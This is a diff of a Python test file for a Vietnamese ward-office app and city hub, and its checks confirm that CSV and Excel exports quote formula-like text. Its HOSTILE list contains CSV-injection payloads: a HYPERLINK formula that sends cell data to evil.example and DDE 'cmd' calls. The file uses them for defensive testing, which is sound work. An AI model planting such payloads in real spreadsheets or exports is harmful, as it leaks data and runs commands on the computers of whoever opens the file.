@@ -3,6 +3,7 @@ records, comes out of every export (the ward's ``wardapp export``, the hub's CSV
 on screen and at the CLI) as text with a leading quote, and no cell of an Excel file is a
 formula. The files are opened as the reader's spreadsheet would: CSV with the csv module, Excel
 with openpyxl."""
+
 from __future__ import annotations
 
 import csv
@@ -13,24 +14,36 @@ import pytest
 import sqlalchemy as sa
 from click.testing import CliRunner
 
+from kernel.spreadsheet import FORMULA_STARTS, cell
 from wardapp.dossiers.service import receive_dossier
 from wardapp.extensions import db
 from wardapp.feedback.service import receive_feedback
 from wardapp.sync.records import Dossier, Feedback
-from kernel.spreadsheet import FORMULA_STARTS, cell
 
 from .conftest import PASSWORD, account, intake_data, make_hub
 
 # What OWASP's "CSV Injection" lists: a formula, DDE, arithmetic, @-functions, and a tab or CR
 # in front of them (which some spreadsheets skip before looking for the formula).
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_cell_quotes_formulas_and_keeps_numbers():
     assert [cell(h) for h in HOSTILE] == ["'" + h for h in HOSTILE]
-    assert [cell(v) for v in (-2, -2.5, 0, None, "Nguyễn Văn Đức", "a=b")] == \
-        [-2, -2.5, 0, None, "Nguyễn Văn Đức", "a=b"]
+    assert [cell(v) for v in (-2, -2.5, 0, None, "Nguyễn Văn Đức", "a=b")] == [
+        -2,
+        -2.5,
+        0,
+        None,
+        "Nguyễn Văn Đức",
+        "a=b",
+    ]
 
 
 def is_number(text: str) -> bool:
@@ -54,25 +67,36 @@ def test_ward_export_quotes_hostile_text(app, tmp_path):
     from wardapp.cli import cli
 
     officer = account("chuyenvien")
-    for h in HOSTILE:
-        dossier, _ = receive_dossier(intake_data(applicant_name="Nguyễn Văn Đức"),
-                                     actor=account("letan"))
-        receive_feedback({"channel": "phone", "sender_name": "Lê Thị Lan", "subject": "Thời hạn",
-                          "content": "Đề nghị rút ngắn.", "regulation": "Khai sinh"},
-                         actor=officer)
+    for _ in HOSTILE:
+        dossier, _ = receive_dossier(
+            intake_data(applicant_name="Nguyễn Văn Đức"), actor=account("letan")
+        )
+        receive_feedback(
+            {
+                "channel": "phone",
+                "sender_name": "Lê Thị Lan",
+                "subject": "Thời hạn",
+                "content": "Đề nghị rút ngắn.",
+                "regulation": "Khai sinh",
+            },
+            actor=officer,
+        )
     # The intake trims what a person types; a record synced, imported or repaired by hand is
     # not trimmed, so the values are planted as they are.
-    for dossier, feedback, h in zip(db.session.scalars(sa.select(Dossier)),
-                                    db.session.scalars(sa.select(Feedback)), HOSTILE):
+    for dossier, feedback, h in zip(
+        db.session.scalars(sa.select(Dossier)), db.session.scalars(sa.select(Feedback)), HOSTILE
+    ):
         dossier.applicant_name = dossier.address = dossier.note = h
         feedback.content = feedback.sender_name = h
-    db.session.execute(sa.update(Dossier).where(Dossier.code == dossier.code)
-                       .values(sets_count=-2))  # a negative number stays a number
+    db.session.execute(
+        sa.update(Dossier).where(Dossier.code == dossier.code).values(sets_count=-2)
+    )  # a negative number stays a number
     db.session.commit()
     for table in ("dossier", "feedback"):
         out = tmp_path / f"{table}.csv"
-        result = CliRunner().invoke(cli, ["export", table, "--out", str(out),
-                                          "--instance", app.instance_path])
+        result = CliRunner().invoke(
+            cli, ["export", table, "--out", str(out), "--instance", app.instance_path]
+        )
         assert result.exit_code == 0, result.output
         text = out.read_bytes().decode("utf-8-sig")
         check_csv(text, HOSTILE)
@@ -89,8 +113,9 @@ def hostile_hub(tmp_path, hub_database_url):
     from city_hub.models import HubUser, Ward
 
     codes = [str(30280 + i) for i in range(len(HOSTILE))]
-    app, _ = make_hub(tmp_path / "hub", wards=codes, database_url=hub_database_url,
-                      WTF_CSRF_ENABLED=False)
+    app, _ = make_hub(
+        tmp_path / "hub", wards=codes, database_url=hub_database_url, WTF_CSRF_ENABLED=False
+    )
     with app.app_context():
         for code, h in zip(codes, HOSTILE):
             hub_db.session.get(Ward, code).name = h
@@ -141,9 +166,20 @@ def test_hub_exports_quote_hostile_ward_names(hostile_hub, tmp_path, monkeypatch
     monkeypatch.setattr(hub_cli, "open_hub", open_hub)
     for fmt in ("csv", "xlsx"):
         out = tmp_path / f"report.{fmt}"
-        result = CliRunner(env=env).invoke(hub_cli.cli, ["report", "--period", "2025-11",
-                                                         "--format", fmt, "--out", str(out),
-                                                         "--instance", instance])
+        result = CliRunner(env=env).invoke(
+            hub_cli.cli,
+            [
+                "report",
+                "--period",
+                "2025-11",
+                "--format",
+                fmt,
+                "--out",
+                str(out),
+                "--instance",
+                instance,
+            ],
+        )
         with opened[-1].app_context():
             hub_db.engine.dispose()
         assert result.exit_code == 0, result.output
